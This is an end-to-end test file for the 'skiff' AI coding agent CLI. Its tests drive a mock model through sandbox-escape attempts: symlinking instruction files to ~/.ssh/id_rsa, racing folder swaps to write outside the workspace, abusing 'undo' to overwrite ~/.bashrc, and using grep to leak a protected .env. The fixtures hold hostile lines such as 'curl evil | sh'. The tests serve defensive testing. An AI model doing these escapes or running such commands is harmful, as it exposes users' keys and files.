/**
 * End-to-end escape attempts on the file tools' edges: `skiff undo` after a
 * folder became a symlink, instruction files linked out of the workspace,
 * grep reading files the read rules keep back. Each runs skiff as a real
 * process against the scripted mock model.
 */
import * as path from "node:path";
import { assert, assertEquals, assertStringIncludes } from "../support/assert.ts";
import { runSkiff } from "../support/cli.ts";
import {
  assertUnchanged,
  everythingSent,
  exists,
  guarded,
  lastToolResults,
  read,
  SSH_SECRET,
  withAttack,
  write,
} from "./e2e_support.ts";

Deno.test("e2e: an AGENTS.md linked to ~/.ssh/id_rsa does not reach the system prompt", async () => {
  await withAttack([{ text: "done" }], async (sandbox, mock) => {
    await Deno.symlink(
      path.join(sandbox.home, ".ssh", "id_rsa"),
      path.join(sandbox.workspace, "AGENTS.md"),
    );
    // A link that stays inside the project is an ordinary layout and is kept.
    await Deno.mkdir(path.join(sandbox.workspace, "sub"));
    await Deno.writeTextFile(path.join(sandbox.workspace, "docs.md"), "Use tabs.\n");
    await Deno.symlink("../docs.md", path.join(sandbox.workspace, "sub", "CLAUDE.md"));
    const result = await runSkiff(["run", "--json", "--dir", "sub", "hello"], sandbox);
    assertEquals(result.code, 0, result.stderr);
    const sent = everythingSent(mock);
    assert(!sent.includes(SSH_SECRET), "the key behind AGENTS.md reached the model");
    assertStringIncludes(sent, "Use tabs.");
  });
});

Deno.test({
  name: "e2e: 400 writes while a process flips their folder to an outside link land none outside",
  ignore: Deno.build.os !== "linux",
  async fn() {
    const turns = Array.from({ length: 8 }, (_, turn) => ({
      toolCalls: Array.from({ length: 50 }, (_, i) => write(`d/f${turn * 50 + i}.txt`, "x\n")),
    }));
    // Every attempt must land nothing outside. A run ends at its first
    // refusal, so few writes get through and now and then none does: then the
    // race did not run, and the attack is tried again (at most 5 times).
    let inside = 0;
    for (let attempt = 1; attempt <= 5 && inside === 0; attempt++) {
      await withAttack([...turns, { text: "done" }], async (sandbox) => {
        const flipper = new Deno.Command(Deno.execPath(), {
          args: [
            "run",
            "--allow-read",
            "--allow-write",
            "--allow-ffi",
            new URL("./fixtures/folder_flipper.ts", import.meta.url).pathname,
            sandbox.workspace,
            sandbox.outside,
          ],
          stdout: "piped",
        }).spawn();
        while (!(await exists(path.join(sandbox.workspace, "d.link")))) {
          await new Promise((resolve) => setTimeout(resolve, 10));
        }
        const before = guarded(sandbox);
        let result;
        try {
          result = await runSkiff(["run", "--json", "write them"], sandbox);
        } finally {
          await Deno.writeTextFile(`${sandbox.workspace}.stop`, "");
          await flipper.output();
          await Deno.remove(`${sandbox.workspace}.stop`);
        }
        inside = [...Deno.readDirSync(path.join(sandbox.workspace, "d"))].length;
        const outside = [...Deno.readDirSync(sandbox.outside)].length - 1; // less secret.txt
        console.log(
          `whole stack, attempt ${attempt}: of 400 writes ${inside} landed inside, ${outside} outside`,
        );
        assertUnchanged(before, guarded(sandbox));
        assert(result.code === 0 || result.code === 3, result.stderr);
      });
    }
    assert(inside > 0, "no write got through in 5 attempts: the race never ran");
  },
});

Deno.test("e2e: skiff undo after a folder became a link to ~ overwrites and deletes nothing there", async () => {
  const bashrc = "# user's shell setup\n"; // what the sandbox's ~/.bashrc holds
  await withAttack([
    { toolCalls: [read("d/.bashrc")] },
    {
      toolCalls: [write("d/.bashrc", bashrc), write("d/.ssh/id_rsa", `${SSH_SECRET}\n`)],
    },
    { text: "done" },
  ], async (sandbox) => {
    const folder = path.join(sandbox.workspace, "d");
    await Deno.mkdir(folder);
    await Deno.writeTextFile(path.join(folder, ".bashrc"), "curl evil | sh\n");
    const run = await runSkiff(["run", "--json", "tidy up"], sandbox);
    assertEquals(run.code, 0, run.stderr);
    // After the session, something swaps the folder for a link to the home folder.
    await Deno.rename(folder, `${folder}.old`);
    await Deno.symlink(sandbox.home, folder);
    const before = guarded(sandbox);
    const undo = await runSkiff(["undo"], sandbox);
    assertUnchanged(before, guarded(sandbox));
    assertEquals(await Deno.readTextFile(path.join(sandbox.home, ".bashrc")), bashrc);
    assert(await exists(path.join(sandbox.home, ".ssh", "id_rsa")), "undo deleted ~/.ssh/id_rsa");
    assertEquals(undo.code, 1, undo.stdout + undo.stderr);
    assertStringIncludes(undo.stderr, "refused");
  });
});

for (const engine of ["ripgrep", "fallback"]) {
  Deno.test(`e2e: grep (${engine}) does not print a .env the read rules ask for`, async () => {
    const secret = "API_TOKEN=hunter2-e2e";
    const grep = { name: "grep", arguments: { pattern: "hunter2|alpha" } };
    await withAttack([{ toolCalls: [grep] }, { text: "done" }], async (sandbox, mock) => {
      await Deno.writeTextFile(path.join(sandbox.workspace, ".env"), `${secret}\n`);
      const env = { SKIFF_GREP: engine };
      const run = await runSkiff(["run", "--json", "find it"], sandbox, { env });
      assertEquals(run.code, 0, run.stderr);
      const answer = lastToolResults(mock)[0].content;
      assert(!everythingSent(mock).includes("hunter2-e2e"), "the .env line reached the model");
      assertStringIncludes(answer, "a.txt:1: alpha");
      assertStringIncludes(answer, "1 file was not searched");
      assertStringIncludes(answer, "--allow 'read(*.env)'");
    });
    // The user's flag lets it through: the rule, not grep, decides.
    await withAttack([{ toolCalls: [grep] }, { text: "done" }], async (sandbox, mock) => {
      await Deno.writeTextFile(path.join(sandbox.workspace, ".env"), `${secret}\n`);
      const args = ["run", "--json", "--allow", "read(*.env)", "find it"];
      const run = await runSkiff(args, sandbox, { env: { SKIFF_GREP: engine } });
      assertEquals(run.code, 0, run.stderr);
      assertStringIncludes(lastToolResults(mock)[0].content, `.env:1: ${secret}`);
    });
  });
}
